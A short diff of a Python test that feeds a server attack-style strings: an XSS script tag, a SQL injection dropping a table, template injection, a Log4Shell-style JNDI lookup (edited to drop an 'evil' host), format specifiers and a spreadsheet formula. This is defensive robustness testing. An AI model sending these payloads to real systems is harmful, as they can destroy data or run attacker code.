@@ -124,7 +124,7 @@ def test_many_values_and_long_keys_and_keys_said_twice(attacked: Server) -> None
         ("Z" + "\u0301" * 5_000, False),
         ("<script>alert(1)</script>", True),
         ("'; DROP TABLE account; --", True),
-        ("{{7*7}} ${jndi:ldap://evil} %s %n", True),
+        ("{{7*7}} ${jndi:ldap:x} %s %n", True),
         ("=HYPERLINK(1)", True),
     ],
     ids=lambda value: ascii(value)[:30],
